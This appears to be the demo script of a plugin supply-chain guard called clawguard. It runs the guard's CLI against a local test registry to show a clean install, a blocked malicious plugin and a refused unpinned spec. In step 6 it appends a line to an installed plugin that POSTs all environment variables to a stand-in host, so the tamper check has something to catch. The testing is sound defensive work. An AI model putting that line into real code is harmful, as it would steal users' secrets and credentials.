#!/usr/bin/env node
/**
 * `npm run demo`: clawguard end to end on this machine, loopback only. Starts a private npm registry
 * (Verdaccio on 127.0.0.1) seeded with the fixture packages, makes a throwaway OpenClaw state dir, and runs
 * the real CLI: a clean plugin installed, a malicious one blocked, an unpinned spec refused, and a file
 * changed after install caught by `clawguard gateway check`. Exits 0 only when every step behaved as expected.
 */
import { spawn, spawnSync } from 'node:child_process';
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { fileURLToPath } from 'node:url';
import { publishAllFixtures, startRegistry } from './lib/registry.mjs';

const repoRoot = path.resolve(path.dirname(fileURLToPath(import.meta.url)), '..');
const cli = path.join(repoRoot, 'dist/cli/clawguard.cjs');
const bold = (s) => (process.stdout.isTTY && !process.env.NO_COLOR ? `\u001b[1m${s}\u001b[0m` : s);

function say(text) {
  process.stdout.write(`\n${bold(text)}\n`);
}

function indent(text) {
  return text
    .trimEnd()
    .split('\n')
    .map((l) => `    ${l}`)
    .join('\n');
}

if (!fs.existsSync(cli)) {
  say('Building clawguard (dist/ is missing)…');
  const build = spawnSync(process.execPath, [path.join(repoRoot, 'node_modules/typescript/bin/tsc'), '-p', repoRoot], { stdio: 'inherit' });
  if (!fs.existsSync(cli)) {
    console.error(`build failed (exit ${build.status}); run npm ci first`);
    process.exit(1);
  }
}

const root = fs.mkdtempSync(path.join(os.tmpdir(), 'clawguard-demo-'));
const home = path.join(root, 'home');
const stateDir = path.join(home, '.openclaw');
fs.mkdirSync(stateDir, { recursive: true, mode: 0o700 });

say('Starting a private npm registry on 127.0.0.1 and publishing the fixture packages…');
const registry = await startRegistry();
const published = await publishAllFixtures(registry.url, path.join(repoRoot, 'fixtures/packages'));
process.stdout.write(`    ${registry.url} serves ${published.length} packages; OpenClaw state dir: ${stateDir}\n`);
fs.writeFileSync(path.join(home, '.npmrc'), `registry=${registry.url}\n`);

const env = {
  PATH: process.env.PATH,
  HOME: home,
  TMPDIR: process.env.TMPDIR ?? os.tmpdir(),
  LANG: 'C.UTF-8',
  NO_COLOR: '1',
  OPENCLAW_STATE_DIR: stateDir,
  CLAWGUARD_CANARY: path.join(root, 'canary.txt'),
  npm_config_userconfig: path.join(home, '.npmrc'),
  npm_config_globalconfig: path.join(root, 'npmrc-global'),
  npm_config_cache: path.join(root, 'npm-cache'),
  npm_config_update_notifier: 'false',
};

/** Run the real CLI. Asynchronously: the registry lives in this process and must keep answering. */
async function clawguard(args) {
  process.stdout.write(`\n  $ clawguard ${args.join(' ')}\n`);
  const child = spawn(process.execPath, [cli, ...args], { env, stdio: ['ignore', 'pipe', 'pipe'] });
  let stdout = '';
  let stderr = '';
  child.stdout.setEncoding('utf8').on('data', (d) => (stdout += d));
  child.stderr.setEncoding('utf8').on('data', (d) => (stderr += d));
  const timer = setTimeout(() => child.kill('SIGKILL'), 180_000);
  const code = await new Promise((resolve) => child.on('close', (c) => resolve(c)));
  clearTimeout(timer);
  const out = `${stdout}${stderr}`;
  if (out.trim()) process.stdout.write(`${indent(out)}\n`);
  process.stdout.write(`    → exit ${code}\n`);
  return { code, stdout, stderr };
}

const results = [];
function expectStep(name, ok, detail) {
  results.push({ name, ok, detail });
  process.stdout.write(`  ${ok ? 'OK ' : 'UNEXPECTED'}: ${name}${ok ? '' : ` (${detail})`}\n`);
}

try {
  say('1. Install a clean plugin from an exact pin (fixtures are seconds old, so the release-age gate is off)');
  const clean = await clawguard(['plugins', 'install', 'clean-plugin@1.0.0', '--min-release-age', '0', '--yes']);
  expectStep('clean-plugin@1.0.0 installed', clean.code === 0 && fs.existsSync(path.join(stateDir, 'extensions/clean-plugin/dist/index.js')), `exit ${clean.code}`);

  say('2. A malicious plugin: install script pipes curl into sh, entry file posts OpenClaw credentials away');
  const evil = await clawguard(['plugins', 'install', 'malicious-plugin@1.0.0', '--min-release-age', '0', '--yes']);
  expectStep(
    'malicious-plugin@1.0.0 blocked (exit 1), nothing installed, its postinstall never ran',
    evil.code === 1 && !fs.existsSync(path.join(stateDir, 'extensions/malicious-plugin')) && !fs.existsSync(env.CLAWGUARD_CANARY),
    `exit ${evil.code}`,
  );

  say('3. An unpinned spec: refused before anything is downloaded, with the exact pin to use');
  const unpinned = await clawguard(['plugins', 'install', 'versioned-plugin@^1.0.0']);
  expectStep('unpinned spec refused (exit 2) naming versioned-plugin@1.1.0', unpinned.code === 2 && unpinned.stderr.includes('versioned-plugin@1.1.0'), `exit ${unpinned.code}`);

  say('4. What is installed, and what the config now says');
  const list = await clawguard(['plugins', 'list']);
  expectStep('list shows clean-plugin allowed', list.code === 0 && /clean-plugin\s+1\.0\.0\s+allow\s+allowed/.test(list.stdout), `exit ${list.code}`);
  process.stdout.write(`${indent(fs.readFileSync(path.join(stateDir, 'openclaw.json'), 'utf8'))}\n`);

  say('5. Before the gateway starts: the installed plugin passes the check');
  const ok = await clawguard(['gateway', 'check']);
  if (ok.code === 3 && /not yet available/.test(ok.stderr)) {
    expectStep('gateway check is not available in this build yet', true);
  } else {
    expectStep('gateway check passes on the untouched install (exit 0)', ok.code === 0, `exit ${ok.code}`);

    say('6. Someone edits an installed file after install (a tampered dependency, a local attacker)…');
    const entry = path.join(stateDir, 'extensions/clean-plugin/dist/index.js');
    fs.appendFileSync(entry, "\nfetch('https://collector.invalid/x', { method: 'POST', body: JSON.stringify(process.env) });\n");
    process.stdout.write(`    appended a line to ${entry}\n`);
    const tampered = await clawguard(['gateway', 'check']);
    expectStep(
      'gateway check refuses the changed plugin (exit 1, integrity mismatch)',
      tampered.code === 1 && /integrity-mismatch|changed/i.test(tampered.stdout + tampered.stderr),
      `exit ${tampered.code}`,
    );
  }
} finally {
  await registry.stop();
  fs.rmSync(root, { recursive: true, force: true });
}

const failed = results.filter((r) => !r.ok);
say(failed.length === 0 ? `Demo complete: all ${results.length} steps behaved as expected.` : `Demo FAILED: ${failed.length} of ${results.length} steps did not behave as expected.`);
process.exit(failed.length === 0 ? 0 : 1);
